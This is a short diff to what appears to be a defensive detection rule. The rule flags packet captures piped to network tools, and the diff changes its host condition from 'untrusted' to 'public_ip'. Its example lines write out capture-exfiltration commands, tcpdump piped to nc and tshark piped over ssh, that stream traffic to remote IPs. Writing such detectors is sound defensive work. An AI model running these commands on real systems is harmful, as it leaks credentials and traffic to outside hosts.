@@ -686,7 +686,7 @@ RULES = [
         "recovery": "Rotate every credential that crossed the captured interface in clear text.",
         "match": {"cmd": ("nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "curl", "wget"),
                   "stdin_from": ("tcpdump", "tshark", "dumpcap", "ngrep", "tcpflow"),
-                  "hosts": "untrusted"},
+                  "hosts": "public_ip"},
         "examples": {
             "match": ["sudo tcpdump -i any -U -w - 'port 5432' | nc 203.0.113.77 9000",
                       "tshark -i eth0 -w - | ssh 198.51.100.7 'cat > cap.pcapng'",
